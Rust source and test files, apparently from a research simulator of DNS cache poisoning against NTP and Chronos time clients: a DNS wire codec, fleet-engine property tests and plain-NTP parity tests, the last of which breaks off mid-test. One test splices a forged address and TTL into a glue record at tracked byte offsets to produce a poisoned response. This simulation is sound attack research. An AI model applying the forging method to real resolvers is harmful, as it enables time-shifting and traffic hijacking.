    /// pointer loops, or inconsistent RDLENGTH fields.
    pub fn decode(bytes: &[u8]) -> Result<Message, WireError> {
        let mut cur = Cursor::new(bytes);
        let id = cur.u16()?;
        let b2 = cur.u8()?;
        let b3 = cur.u8()?;
        let qd = cur.u16()? as usize;
        let an = cur.u16()? as usize;
        let ns = cur.u16()? as usize;
        let ar = cur.u16()? as usize;
        let flags = Flags {
            response: b2 & 0x80 != 0,
            authoritative: b2 & 0x04 != 0,
            truncated: b2 & 0x02 != 0,
            recursion_desired: b2 & 0x01 != 0,
            recursion_available: b3 & 0x80 != 0,
            rcode: RcodeField(Rcode::from(b3 & 0x0f)),
        };
        let mut question = Vec::with_capacity(qd);
        for _ in 0..qd {
            let name = cur.name()?;
            let qtype = RecordType::from(cur.u16()?);
            let _class = cur.u16()?;
            question.push(Question { name, qtype });
        }
        let mut sections = [Vec::with_capacity(an), Vec::new(), Vec::new()];
        for (idx, count) in [an, ns, ar].into_iter().enumerate() {
            for _ in 0..count {
                sections[idx].push(decode_record(&mut cur)?);
            }
        }
        let [answers, authorities, additionals] = sections;
        Ok(Message {
            id,
            flags,
            question,
            answers,
            authorities,
            additionals,
        })
    }
}

/// Which message section a record was encoded into.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Section {
    /// Answer section.
    Answer,
    /// Authority section.
    Authority,
    /// Additional section.
    Additional,
}

/// Byte positions of one encoded record's fields within the message.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct FieldSpan {
    /// Offset of the record's first byte (owner name).
    pub start: usize,
    /// Offset of the 4-byte TTL field.
    pub ttl_offset: usize,
    /// Offset of the first RDATA byte.
    pub rdata_offset: usize,
    /// RDATA length in bytes.
    pub rdata_len: usize,
    /// Offset one past the record's last byte.
    pub end: usize,
}

/// A record together with where its bytes landed during encoding.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RecordSpan {
    /// Section the record was encoded into.
    pub section: Section,
    /// Index within that section.
    pub index: usize,
    /// The record itself.
    pub record: Record,
    /// Field byte positions.
    pub fields: FieldSpan,
}

fn encode_name(out: &mut Vec<u8>, name: &Name, compress: &mut HashMap<Vec<String>, usize>) {
    let labels = name.labels();
    for i in 0..labels.len() {
        let suffix: Vec<String> = labels[i..].to_vec();
        if let Some(&offset) = compress.get(&suffix) {
            if offset <= 0x3fff {
                out.extend_from_slice(&((0xC000 | offset as u16).to_be_bytes()));
                return;
            }
        }
        if out.len() <= 0x3fff {
            compress.insert(suffix, out.len());
        }
        let label = &labels[i];
        out.push(label.len() as u8);
        out.extend_from_slice(label.as_bytes());
    }
    out.push(0);
}

fn encode_record(
    out: &mut Vec<u8>,
    r: &Record,
    compress: &mut HashMap<Vec<String>, usize>,
) -> FieldSpan {
    let start = out.len();
    encode_name(out, &r.name, compress);
    out.extend_from_slice(&r.rtype().code().to_be_bytes());
    match &r.rdata {
        RData::Opt { udp_payload_size } => {
            // OPT abuses class as the UDP payload size, ttl as ext-rcode.
            out.extend_from_slice(&udp_payload_size.to_be_bytes());
            let ttl_offset = out.len();
            out.extend_from_slice(&0u32.to_be_bytes());
            out.extend_from_slice(&0u16.to_be_bytes());
            return FieldSpan {
                start,
                ttl_offset,
                rdata_offset: out.len(),
                rdata_len: 0,
                end: out.len(),
            };
        }
        _ => {
            out.extend_from_slice(&1u16.to_be_bytes()); // IN
            out.extend_from_slice(&r.ttl.to_be_bytes());
        }
    }
    let ttl_offset = out.len() - 4;
    let len_pos = out.len();
    out.extend_from_slice(&[0, 0]);
    match &r.rdata {
        RData::A(addr) => out.extend_from_slice(&addr.octets()),
        RData::Ns(n) | RData::Cname(n) => encode_name(out, n, compress),
        RData::Soa {
            mname,
            rname,
            serial,
            refresh,
            retry,
            expire,
            minimum,
        } => {
            encode_name(out, mname, compress);
            encode_name(out, rname, compress);
            for v in [serial, refresh, retry, expire, minimum] {
                out.extend_from_slice(&v.to_be_bytes());
            }
        }
        RData::Mx {
            preference,
            exchange,
        } => {
            out.extend_from_slice(&preference.to_be_bytes());
            encode_name(out, exchange, compress);
        }
        RData::Txt(strings) => {
            for s in strings {
                let b = s.as_bytes();
                out.push(b.len().min(255) as u8);
                out.extend_from_slice(&b[..b.len().min(255)]);
            }
        }
        RData::Raw(bytes) => out.extend_from_slice(bytes),
        RData::Opt { .. } => unreachable!("handled above"),
    }
    let rdlen = (out.len() - len_pos - 2) as u16;
    out[len_pos..len_pos + 2].copy_from_slice(&rdlen.to_be_bytes());
    FieldSpan {
        start,
        ttl_offset,
        rdata_offset: len_pos + 2,
        rdata_len: rdlen as usize,
        end: out.len(),
    }
}

fn decode_record(cur: &mut Cursor<'_>) -> Result<Record, WireError> {
    let name = cur.name()?;
    let rtype = RecordType::from(cur.u16()?);
    if rtype == RecordType::Opt {
        let udp_payload_size = cur.u16()?;
        let _ttl = cur.u32()?;
        let rdlen = cur.u16()? as usize;
        cur.skip(rdlen)?;
        return Ok(Record {
            name,
            ttl: 0,
            rdata: RData::Opt { udp_payload_size },
        });
    }
    let _class = cur.u16()?;
    let ttl = cur.u32()?;
    let rdlen = cur.u16()? as usize;
    let end = cur
        .pos
        .checked_add(rdlen)
        .filter(|&e| e <= cur.bytes.len())
        .ok_or(WireError::Truncated)?;
    let rdata = match rtype {
        RecordType::A => {
            if rdlen != 4 {
                return Err(WireError::BadRdata);
            }
            RData::A(Ipv4Addr::new(cur.u8()?, cur.u8()?, cur.u8()?, cur.u8()?))
        }
        RecordType::Ns => RData::Ns(cur.name()?),
        RecordType::Cname => RData::Cname(cur.name()?),
        RecordType::Soa => RData::Soa {
            mname: cur.name()?,
            rname: cur.name()?,
            serial: cur.u32()?,
            refresh: cur.u32()?,
            retry: cur.u32()?,
            expire: cur.u32()?,
            minimum: cur.u32()?,
        },
        RecordType::Mx => RData::Mx {
            preference: cur.u16()?,
            exchange: cur.name()?,
        },
        RecordType::Txt => {
            let mut strings = Vec::new();
            while cur.pos < end {
                let len = cur.u8()? as usize;
                let bytes = cur.take(len)?;
                strings.push(String::from_utf8_lossy(bytes).into_owned());
            }
            RData::Txt(strings)
        }
        RecordType::Opt => unreachable!("handled above"),
        RecordType::Unknown(_) => RData::Raw(cur.take(rdlen)?.to_vec()),
    };
    if cur.pos != end {
        return Err(WireError::BadRdata);
    }
    Ok(Record { name, ttl, rdata })
}

struct Cursor<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Cursor<'a> {
    fn new(bytes: &'a [u8]) -> Self {
        Cursor { bytes, pos: 0 }
    }

    fn u8(&mut self) -> Result<u8, WireError> {
        let b = *self.bytes.get(self.pos).ok_or(WireError::Truncated)?;
        self.pos += 1;
        Ok(b)
    }

    fn u16(&mut self) -> Result<u16, WireError> {
        Ok(u16::from_be_bytes([self.u8()?, self.u8()?]))
    }

    fn u32(&mut self) -> Result<u32, WireError> {
        Ok(u32::from_be_bytes([
            self.u8()?,
            self.u8()?,
            self.u8()?,
            self.u8()?,
        ]))
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], WireError> {
        let end = self
            .pos
            .checked_add(n)
            .filter(|&e| e <= self.bytes.len())
            .ok_or(WireError::Truncated)?;
        let s = &self.bytes[self.pos..end];
        self.pos = end;
        Ok(s)
    }

    fn skip(&mut self, n: usize) -> Result<(), WireError> {
        self.take(n).map(|_| ())
    }

    fn name(&mut self) -> Result<Name, WireError> {
        let mut labels: Vec<String> = Vec::new();
        let mut pos = self.pos;
        let mut jumped = false;
        let mut jumps = 0;
        loop {
            let len = *self.bytes.get(pos).ok_or(WireError::Truncated)? as usize;
            if len & 0xC0 == 0xC0 {
                let b2 = *self.bytes.get(pos + 1).ok_or(WireError::Truncated)? as usize;
                let target = ((len & 0x3f) << 8) | b2;
                if target >= pos {
                    return Err(WireError::BadPointer);
                }
                jumps += 1;
                if jumps > 32 {
                    return Err(WireError::BadPointer);
                }
                if !jumped {
                    self.pos = pos + 2;
                    jumped = true;
                }
                pos = target;
                continue;
            }
            if len & 0xC0 != 0 {
                return Err(WireError::BadLabel);
            }
            if len == 0 {
                if !jumped {
                    self.pos = pos + 1;
                }
                break;
            }
            let start = pos + 1;
            let end = start + len;
            let bytes = self.bytes.get(start..end).ok_or(WireError::Truncated)?;
            labels.push(String::from_utf8_lossy(bytes).to_ascii_lowercase());
            pos = end;
        }
        Name::from_labels(labels).map_err(|_| WireError::BadName)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn name(s: &str) -> Name {
        s.parse().unwrap()
    }

    fn pool_response(n_answers: usize, ttl: u32) -> Message {
        let pool = name("pool.ntp.org");
        let mut msg = Message::response_to(&Message::query(7, Question::a(pool.clone())));
        for i in 0..n_answers {
            msg.answers.push(Record::a(
                pool.clone(),
                Ipv4Addr::new(198, 18, (i / 256) as u8, (i % 256) as u8),
                ttl,
            ));
        }
        msg
    }

    #[test]
    fn query_round_trip() {
        let q = Message::query(0xabcd, Question::a(name("pool.ntp.org")));
        let wire = q.encode();
        let back = Message::decode(&wire).unwrap();
        assert_eq!(back, q);
        assert!(!back.flags.response);
        assert!(back.flags.recursion_desired);
    }

    #[test]
    fn response_round_trip_with_all_sections() {
        let pool = name("pool.ntp.org");
        let mut msg = pool_response(4, 150);
        msg.flags.authoritative = true;
        msg.authorities.push(Record {
            name: name("ntp.org"),
            ttl: 3600,
            rdata: RData::Ns(name("ns1.ntp.org")),
        });
        msg.additionals.push(Record::a(
            name("ns1.ntp.org"),
            Ipv4Addr::new(203, 0, 113, 1),
            3600,
        ));
        let msg = msg.with_edns(4096);
        let wire = msg.encode();
        let back = Message::decode(&wire).unwrap();
        assert_eq!(back, msg);
        assert_eq!(back.answer_addrs().len(), 4);
        assert_eq!(back.edns_udp_size(), Some(4096));
        assert_eq!(back.question[0].name, pool);
    }

    #[test]
    fn compression_shrinks_repeated_names() {
        let with_repeats = pool_response(10, 150);
        let wire = with_repeats.encode();
        // 12 header + 18 question + first record (pointer name: 2+2+2+4+2+4 = 16)
        // Each subsequent record must also be 16 bytes thanks to compression.
        assert_eq!(wire.len(), 12 + 18 + 10 * 16);
        let back = Message::decode(&wire).unwrap();
        assert_eq!(back.answers.len(), 10);
    }

    #[test]
    fn soa_and_mx_round_trip() {
        let mut msg = Message::response_to(&Message::query(1, Question::mx(name("example.org"))));
        msg.answers.push(Record {
            name: name("example.org"),
            ttl: 300,
            rdata: RData::Mx {
                preference: 10,
                exchange: name("mail.example.org"),
            },
        });
        msg.authorities.push(Record {
            name: name("example.org"),
            ttl: 3600,
            rdata: RData::Soa {
                mname: name("ns1.example.org"),
                rname: name("hostmaster.example.org"),
                serial: 2020101601,
                refresh: 7200,
                retry: 3600,
                expire: 1209600,
                minimum: 3600,
            },
        });
        let back = Message::decode(&msg.encode()).unwrap();
        assert_eq!(back, msg);
    }

    #[test]
    fn txt_and_cname_round_trip() {
        let mut msg = Message::response_to(&Message::query(2, Question::a(name("a.example"))));
        msg.answers.push(Record {
            name: name("a.example"),
            ttl: 60,
            rdata: RData::Cname(name("b.example")),
        });
        msg.answers.push(Record {
            name: name("b.example"),
            ttl: 60,
            rdata: RData::Txt(vec!["hello world".into(), "second".into()]),
        });
        let back = Message::decode(&msg.encode()).unwrap();
        assert_eq!(back, msg);
    }

    #[test]
    fn rcode_round_trip() {
        for rc in [
            Rcode::NoError,
            Rcode::FormErr,
            Rcode::ServFail,
            Rcode::NxDomain,
            Rcode::Refused,
        ] {
            let mut msg = Message::query(9, Question::a(name("x.example")));
            msg.flags.response = true;
            msg.flags.rcode = RcodeField(rc);
            let back = Message::decode(&msg.encode()).unwrap();
            assert_eq!(back.rcode(), rc);
        }
    }

    #[test]
    fn truncated_input_fails_cleanly() {
        let msg = pool_response(4, 150);
        let wire = msg.encode();
        for cut in [0, 5, 11, 13, wire.len() - 1] {
            assert!(
                Message::decode(&wire[..cut]).is_err(),
                "cut at {cut} should fail"
            );
        }
    }

    #[test]
    fn forward_pointer_is_rejected() {
        // Header + question whose name is a pointer to itself.
        let mut raw = vec![0u8; 12];
        raw[4..6].copy_from_slice(&1u16.to_be_bytes()); // qdcount = 1
        raw.extend_from_slice(&[0xC0, 12]); // pointer to its own offset
        raw.extend_from_slice(&1u16.to_be_bytes());
        raw.extend_from_slice(&1u16.to_be_bytes());
        assert_eq!(Message::decode(&raw), Err(WireError::BadPointer));
    }

    #[test]
    fn bad_rdlength_is_rejected() {
        let msg = pool_response(1, 150);
        let mut wire = msg.encode().to_vec();
        // The A record's RDLENGTH sits 2 bytes before the last 4 (address).
        let len = wire.len();
        wire[len - 6..len - 4].copy_from_slice(&3u16.to_be_bytes());
        assert!(Message::decode(&wire).is_err());
    }

    #[test]
    fn big_ttl_survives() {
        let msg = pool_response(1, 86_401);
        let back = Message::decode(&msg.encode()).unwrap();
        assert_eq!(back.answers[0].ttl, 86_401);
    }

    #[test]
    fn response_to_echoes_id_and_question() {
        let q = Message::query(0x5555, Question::a(name("pool.ntp.org")));
        let r = Message::response_to(&q);
        assert_eq!(r.id, 0x5555);
        assert!(r.flags.response);
        assert_eq!(r.question, q.question);
    }

    #[test]
    fn record_type_codes_round_trip() {
        for t in [
            RecordType::A,
            RecordType::Ns,
            RecordType::Cname,
            RecordType::Soa,
            RecordType::Mx,
            RecordType::Txt,
            RecordType::Opt,
            RecordType::Unknown(999),
        ] {
            assert_eq!(RecordType::from(t.code()), t);
        }
    }

    #[test]
    fn tracked_encoding_reports_exact_field_offsets() {
        let pool = name("pool.ntp.org");
        let mut msg = pool_response(2, 150);
        msg.additionals.push(Record::a(
            name("ns1.pool.ntp.org"),
            Ipv4Addr::new(203, 0, 113, 1),
            3600,
        ));
        let msg = msg.with_edns(4096);
        let (wire, spans) = msg.encode_tracked();
        assert_eq!(wire, msg.encode(), "tracked encoding is byte-identical");
        assert_eq!(spans.len(), 4);
        // Every span's fields point at what they claim to.
        for span in &spans {
            let f = span.fields;
            assert!(f.start < f.end && f.end <= wire.len());
            if let RData::A(addr) = span.record.rdata {
                assert_eq!(&wire[f.rdata_offset..f.rdata_offset + 4], &addr.octets());
                let ttl =
                    u32::from_be_bytes(wire[f.ttl_offset..f.ttl_offset + 4].try_into().unwrap());
                assert_eq!(ttl, span.record.ttl);
                assert_eq!(f.rdata_len, 4);
            }
        }
        // Sections are labelled correctly.
        assert_eq!(spans[0].section, Section::Answer);
        assert_eq!(spans[2].section, Section::Additional);
        assert_eq!(spans[3].record.rtype(), RecordType::Opt);
        let _ = pool;
    }

    #[test]
    fn splicing_at_tracked_offsets_changes_the_decoded_record() {
        let mut msg = pool_response(1, 150);
        msg.additionals.push(Record::a(
            name("ns1.pool.ntp.org"),
            Ipv4Addr::new(203, 0, 113, 1),
            3600,
        ));
        let (wire, spans) = msg.encode_tracked();
        let glue = spans
            .iter()
            .find(|s| s.section == Section::Additional)
            .unwrap();
        let mut forged = wire.to_vec();
        let f = glue.fields;
        forged[f.rdata_offset..f.rdata_offset + 4]
            .copy_from_slice(&Ipv4Addr::new(198, 18, 6, 6).octets());
        forged[f.ttl_offset..f.ttl_offset + 4].copy_from_slice(&86_401u32.to_be_bytes());
        let back = Message::decode(&forged).unwrap();
        let poisoned = &back.additionals[0];
        assert_eq!(poisoned.as_a(), Some(Ipv4Addr::new(198, 18, 6, 6)));
        assert_eq!(poisoned.ttl, 86_401);
        assert_eq!(back.answers, msg.answers, "answer section untouched");
    }

    #[test]
    fn unknown_record_type_preserved_as_raw() {
        let mut msg = Message::response_to(&Message::query(3, Question::a(name("x.example"))));
        msg.answers.push(Record {
            name: name("x.example"),
            ttl: 5,
            rdata: RData::Raw(vec![1, 2, 3, 4, 5]),
        });
        let back = Message::decode(&msg.encode()).unwrap();
        assert_eq!(back.answers[0].rdata, RData::Raw(vec![1, 2, 3, 4, 5]));
    }
}
