//! Property tests pinning the fleet engine's fidelity contract:
//!
//! 1. **Independence / slicing equivalence** — with `shared_cache: false`
//!    a fleet of N clients produces *byte-identical* offset trajectories,
//!    pools and stats to N independent single-client runs with matched
//!    global ids (the fleet analogue of "N independent `Scenario` runs
//!    with matched seeds"): client `i` of the fleet is the same simulation
//!    as client 0 of a one-client fleet whose `first_client_id` is `i`.
//! 2. **Shared-cache determinism** — the shared-cache mode is a pure
//!    function of the config: re-running (or resetting) reproduces every
//!    trajectory bit for bit.

use fleet::config::{FleetAttack, FleetConfig};
use fleet::engine::Fleet;
use netsim::time::{SimDuration, SimTime};
use proptest::prelude::*;

fn base_config(seed: u64, clients: usize, shared: bool, attack_at: Option<u64>) -> FleetConfig {
    FleetConfig {
        seed,
        clients,
        shared_cache: shared,
        record_trajectories: true,
        universe: 96,
        chronos: chronos::config::ChronosConfig {
            sample_size: 9,
            trim: 3,
            poll_interval: SimDuration::from_secs(64),
            pool: chronos::config::PoolGenConfig {
                queries: 5,
                query_interval: SimDuration::from_secs(200),
                ..chronos::config::PoolGenConfig::default()
            },
            ..chronos::config::ChronosConfig::default()
        },
        stagger: SimDuration::from_secs(150),
        sample_every: SimDuration::from_secs(120),
        horizon: SimDuration::from_secs(1_800),
        attack: attack_at.map(|t| {
            FleetAttack::paper_default(SimTime::from_secs(t), SimDuration::from_millis(500))
        }),
        ..FleetConfig::default()
    }
}

/// Everything observable about one client.
#[derive(Debug, Clone, PartialEq)]
struct ClientFingerprint {
    trace: Vec<(netsim::time::SimTime, i64)>,
    pool: (usize, usize),
    stats: chronos::core::ChronosStats,
    phase: chronos::core::Phase,
    final_offset_ns: i64,
}

fn fingerprint(fleet: &Fleet, i: usize) -> ClientFingerprint {
    ClientFingerprint {
        trace: fleet.trace(i).to_vec(),
        pool: fleet.client_pool(i),
        stats: fleet.client_stats(i),
        phase: fleet.client_phase(i),
        final_offset_ns: fleet.client_offset_ns(i, fleet.now()),
    }
}

proptest! {
    /// The headline equivalence: fleet-of-N == N fleets-of-1 (matched ids),
    /// byte for byte, with and without a shared attack.
    #[test]
    fn fleet_equals_independent_single_client_runs(
        seed in 1u64..500,
        n in 1usize..=4,
        attack_at in prop_oneof![Just(None), Just(Some(300u64)), Just(Some(700u64))],
    ) {
        let mut fleet = Fleet::new(base_config(seed, n, false, attack_at));
        fleet.run();
        for i in 0..n {
            let mut solo_config = base_config(seed, 1, false, attack_at);
            solo_config.first_client_id = i as u64;
            let mut solo = Fleet::new(solo_config);
            solo.run();
            prop_assert_eq!(
                fingerprint(&fleet, i),
                fingerprint(&solo, 0),
                "client {} of the {}-fleet diverged from its solo run",
                i,
                n
            );
        }
    }

    /// Shared-cache fleets are deterministic and reset-reproducible.
    #[test]
    fn shared_cache_fleet_is_reproducible(
        seed in 1u64..500,
        n in 2usize..=6,
        attack_at in prop_oneof![Just(None), Just(Some(400u64))],
    ) {
        let config = base_config(seed, n, true, attack_at);
        let mut a = Fleet::new(config.clone());
        let report_a = a.run();
        let mut b = Fleet::new(config);
        // Pollute b with a different seed first, then rewind: reset must
        // erase all of it.
        b.reset(seed ^ 0xdead_beef);
        b.run();
        b.reset(seed);
        let report_b = b.run();
        prop_assert_eq!(&report_a, &report_b);
        for i in 0..n {
            prop_assert_eq!(fingerprint(&a, i), fingerprint(&b, i), "client {}", i);
        }
    }

    /// Fleet size does not perturb a client's *private* randomness even in
    /// shared mode: pools may couple through the cache, but boot stagger
    /// and drift (the first two per-client draws) depend only on the
    /// global id.
    #[test]
    fn client_streams_are_slicing_invariant(seed in 1u64..500, n in 2usize..=5) {
        let mut big = Fleet::new(base_config(seed, n, true, None));
        let mut small = Fleet::new(base_config(seed, 1, true, None));
        // Before any time passes, client 0's clock drift must match.
        let t = SimTime::from_secs(1_000);
        prop_assert_eq!(
            big.client_offset_ns(0, t),
            small.client_offset_ns(0, t),
            "drift draw must not depend on fleet size"
        );
        big.run_until(SimTime::from_secs(10));
        small.run_until(SimTime::from_secs(10));
        prop_assert_eq!(big.client_stats(0), small.client_stats(0));
    }
}
