//! Property tests pinning the sharded engine's headline contract: a
//! `Fleet::run` is **byte-identical** for every thread count. Shards are
//! fixed by `shard_size` (never by `threads`), the shared-cache coupling
//! is resolved by the deterministic resolver pre-pass, and per-shard
//! aggregates merge in fixed shard order — so stepping shards serially
//! (`threads = 1`, the sequential engine) and stepping them concurrently
//! on any worker count must produce the same report (shifted series,
//! histogram bins, quantiles, totals) and the same per-client end states
//! at matched global ids.

use fleet::config::{FleetAttack, FleetConfig};
use fleet::engine::Fleet;
use netsim::time::{SimDuration, SimTime};
use proptest::prelude::*;

fn config(
    seed: u64,
    clients: usize,
    shard_size: usize,
    shared: bool,
    attack_at: Option<u64>,
) -> FleetConfig {
    FleetConfig {
        seed,
        clients,
        shard_size,
        shared_cache: shared,
        record_trajectories: true,
        universe: 96,
        chronos: chronos::config::ChronosConfig {
            sample_size: 9,
            trim: 3,
            poll_interval: SimDuration::from_secs(64),
            pool: chronos::config::PoolGenConfig {
                queries: 5,
                query_interval: SimDuration::from_secs(200),
                ..chronos::config::PoolGenConfig::default()
            },
            ..chronos::config::ChronosConfig::default()
        },
        stagger: SimDuration::from_secs(150),
        sample_every: SimDuration::from_secs(120),
        horizon: SimDuration::from_secs(1_800),
        attack: attack_at.map(|t| {
            FleetAttack::paper_default(SimTime::from_secs(t), SimDuration::from_millis(500))
        }),
        ..FleetConfig::default()
    }
}

/// Everything observable about one client.
#[derive(Debug, Clone, PartialEq)]
struct ClientFingerprint {
    trace: Vec<(SimTime, i64)>,
    pool: (usize, usize),
    stats: chronos::core::ChronosStats,
    phase: chronos::core::Phase,
    final_offset_ns: i64,
}

fn fingerprint(fleet: &Fleet, i: usize) -> ClientFingerprint {
    ClientFingerprint {
        trace: fleet.trace(i).to_vec(),
        pool: fleet.client_pool(i),
        stats: fleet.client_stats(i),
        phase: fleet.client_phase(i),
        final_offset_ns: fleet.client_offset_ns(i, fleet.now()),
    }
}

proptest! {
    /// The acceptance property: sharded runs equal the sequential engine
    /// for every threads ∈ {1, 2, 3, 8} — whole report and every client.
    #[test]
    fn sharded_run_is_byte_identical_to_sequential(
        seed in 1u64..400,
        clients in 8usize..=24,
        shard_size in 3usize..=7,
        shared in any::<bool>(),
        attack_at in prop_oneof![Just(None), Just(Some(300u64)), Just(Some(900u64))],
    ) {
        let base = config(seed, clients, shard_size, shared, attack_at);
        // clients ≥ 8 with shard_size ≤ 7 always yields multiple shards.
        prop_assert!(clients.div_ceil(shard_size) >= 2);
        let mut sequential = Fleet::new(FleetConfig { threads: 1, ..base.clone() });
        let reference = sequential.run();
        for threads in [1usize, 2, 3, 8] {
            let mut sharded = Fleet::new(FleetConfig { threads, ..base.clone() });
            let report = sharded.run();
            prop_assert_eq!(
                &reference, &report,
                "threads={} diverged from the sequential engine", threads
            );
            for i in 0..clients {
                prop_assert_eq!(
                    fingerprint(&sequential, i),
                    fingerprint(&sharded, i),
                    "client {} diverged at threads={}", i, threads
                );
            }
        }
    }

    /// Running the horizon in arbitrary pieces (repeated `run_until`)
    /// equals one continuous run, at any thread count — the carry/boundary
    /// machinery is shard-local and must not leak across calls.
    #[test]
    fn piecewise_runs_equal_one_continuous_run(
        seed in 1u64..400,
        clients in 6usize..=16,
        threads in 1usize..=4,
        cut in 200u64..1_600,
    ) {
        let base = config(seed, clients, 5, true, Some(300));
        let mut continuous = Fleet::new(FleetConfig { threads, ..base.clone() });
        let expected = continuous.run();
        let mut pieces = Fleet::new(FleetConfig { threads, ..base.clone() });
        pieces.run_until(SimTime::from_secs(cut));
        pieces.run_until(SimTime::ZERO + base.horizon);
        prop_assert_eq!(expected, pieces.report());
        for i in 0..clients {
            prop_assert_eq!(fingerprint(&continuous, i), fingerprint(&pieces, i), "client {}", i);
        }
    }

    /// Reset/reconfigure reuse (the pooling path) stays byte-identical to
    /// fresh construction under sharding and threading.
    #[test]
    fn pooled_reuse_matches_fresh_builds_under_sharding(
        seed in 1u64..400,
        threads in 1usize..=3,
    ) {
        let base = config(seed, 13, 4, true, Some(300));
        let fresh = Fleet::new(FleetConfig { threads, ..base.clone() }).run();
        let mut reused = Fleet::new(FleetConfig { threads, seed: seed ^ 0xa5a5, ..base.clone() });
        reused.run();
        reused.reset(seed);
        prop_assert_eq!(&fresh, &reused.run(), "reset reuse diverged");
        // Crossing a shard-layout boundary and coming back.
        reused.reconfigure(FleetConfig { threads, clients: 7, shard_size: 2, ..base.clone() });
        reused.run();
        reused.reconfigure(FleetConfig { threads, ..base.clone() });
        prop_assert_eq!(&fresh, &reused.run(), "reconfigure round-trip diverged");
    }
}
