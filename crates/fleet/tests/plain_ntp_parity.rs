//! Semantic parity between the fleet's plain-NTP lanes and the
//! packet-level [`ntplab::plain::PlainNtpClient`].
//!
//! The two share one decision implementation — `ntplab`'s
//! intersection → cluster → combine pipeline, reached by the fleet
//! through [`chronos::core::conclude_plain_round`] — but the fleet is a
//! mean-field model (drawn offsets, no packets), so parity is asserted on
//! *outcomes* under matched scenarios, not on bytes: an all-honest pool
//! keeps both clients inside the safety bound; a unanimously lying pool
//! drags both to the lie; and the activity counters line up (one DNS
//! resolution, a poll per interval, corrections applied).

use fleet::cohort::CohortTier;
use fleet::config::{FleetAttack, FleetConfig};
use fleet::engine::Fleet;
use netsim::prelude::*;
use netsim::time::{SimDuration, SimTime};
use ntplab::clock::LocalClock;
use ntplab::plain::PlainNtpClient;
use ntplab::server::NtpServer;
use std::net::Ipv4Addr;

const HORIZON_SECS: u64 = 400;
const SHIFT_NS: i64 = 500_000_000;

/// A packet-level world: auth NS + resolver + 16 NTP servers (all shifted
/// by `shift_all_ns`) + one plain client, run for the horizon.
fn run_packet_client(seed: u64, shift_all_ns: i64) -> (i64, ntplab::plain::PlainNtpStats) {
    use dnslab::resolver::{RecursiveResolver, Upstream};
    use dnslab::server::AuthServer;
    use dnslab::zone::pool_ntp_zone;
    let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
    let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
    let client_addr = Ipv4Addr::new(198, 51, 100, 10);
    let mut world = World::new(seed);
    world.add_node(
        "auth",
        Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(16, 1)])),
        &[ns_addr],
    );
    let mut res = RecursiveResolver::new(
        resolver_addr,
        vec![Upstream {
            zone: "pool.ntp.org".parse().unwrap(),
            ns_names: vec!["ns1.pool.ntp.org".parse().unwrap()],
            bootstrap: vec![ns_addr],
        }],
    );
    res.allow_client(client_addr);
    world.add_node("resolver", Box::new(res), &[resolver_addr]);
    for i in 0..16u32 {
        let addr = Ipv4Addr::from(u32::from(Ipv4Addr::new(10, 32, 0, 1)) + i);
        world.add_node(
            format!("ntp{i}"),
            Box::new(NtpServer::new(addr, LocalClock::new(shift_all_ns, 0.0))),
            &[addr],
        );
    }
    let client = world.add_node(
        "client",
        Box::new(PlainNtpClient::new(
            client_addr,
            resolver_addr,
            LocalClock::perfect(),
        )),
        &[client_addr],
    );
    world.run_for(SimDuration::from_secs(HORIZON_SECS));
    let c = world.node::<PlainNtpClient>(client);
    (c.offset_from_true(world.now()), c.stats())
}

/// A single-plain-client fleet under matched conditions: no stagger, no
/// drift, no benign imperfection or jitter (the packet servers above are
/// exact too), the same 64 s poll cadence.
fn run_fleet_client(seed: u64, lying: bool) -> (i64, chronos::core::ChronosStats, Fleet) {
    let config = FleetConfig {
        seed,
        clients: 1,
        tiers: vec![CohortTier::plain_ntp("plain ntp", 1)],
        stagger: SimDuration::ZERO,
        client_drift_ppm: 0.0,
        benign_offset_ms: 0,
        jitter_std: SimDuration::ZERO,
        horizon: SimDuration::from_secs(HORIZON_SECS),
        // A unanimous lie is a poisoned resolution at boot: the whole
        // 4-server pool serves the shift — exactly what the packet world
        // above models by shifting every server clock.
        attack: lying.then(|| {
            FleetAttack::paper_default(SimTime::ZERO, SimDuration::from_nanos(SHIFT_NS as u64))
        }),
        ..FleetConfig::default()
    };
    let mut fleet = Fleet::new(config);
    fleet.run();
    let offset = fleet.client_offset_ns(0, fleet.now());
    let stats = fleet.client_stats(0);
    (offset, stats, fleet)
}

#[test]
fn honest_pool_keeps_both_clients_synced() {
    let (packet_offset, packet_stats) = run_packet_client(1, 0);
    let (fleet_offset, fleet_stats, _) = run_fleet_client(1, false);
    // Both implementations hold the clock well inside the 100 ms bound
    // (the packet client sees real path delays; the matched fleet run is
    // noise-free, so it is exact).
    assert!(
        packet_offset.abs() < 5_000_000,
        "packet: {packet_offset} ns"
    );
    assert_eq!(fleet_offset, 0, "noise-free fleet lane corrects to zero");
    // Matched activity: one resolution, a poll per 64 s interval.
    assert_eq!(packet_stats.dns_queries, 1);
    assert_eq!(fleet_stats.pool_queries, 1);
    assert_eq!(
        fleet_stats.polls,
        1 + (HORIZON_SECS - 1) / 64,
        "a poll at boot, then one per interval"
    );
    assert!(
        packet_stats.polls.abs_diff(fleet_stats.polls) <= 1,
        "poll cadence matches: packet {} vs fleet {}",
        packet_stats.polls,
        fleet_stats.polls
    );
    // Every poll produced a correction in both worlds.
    assert!(packet_stats.updates >= packet_stats.polls - 1);
    assert_eq!(fleet_stats.accepts, fleet_stats.polls);
    assert_eq!(fleet_stats.panics, 0, "plain clients never panic");
}

#[test]
fn unanimous_liars_drag_both_clients() {
    let (packet_offset, _) = run_packet_client(2, SHIFT_NS);
    let (fleet_offset, fleet_stats, fleet) = run_fleet_client(2, true);
    assert!(
        packet_offset > 490_000_000,
        "packet client dragged to the lie: {packet_offset} ns"
    );
    assert_eq!(
        fleet_offset, SHIFT_NS,
        "noise-free fleet lane lands exactly on the lie"
    );
    // The fleet client's pool is all-malicious (poisoned resolution kept
    // the first 4 of the farm), mirroring the all-liar packet world.
    assert_eq!(fleet.client_pool(0), (0, 4));
    assert_eq!(fleet_stats.accepts, fleet_stats.polls, "no clique failure");
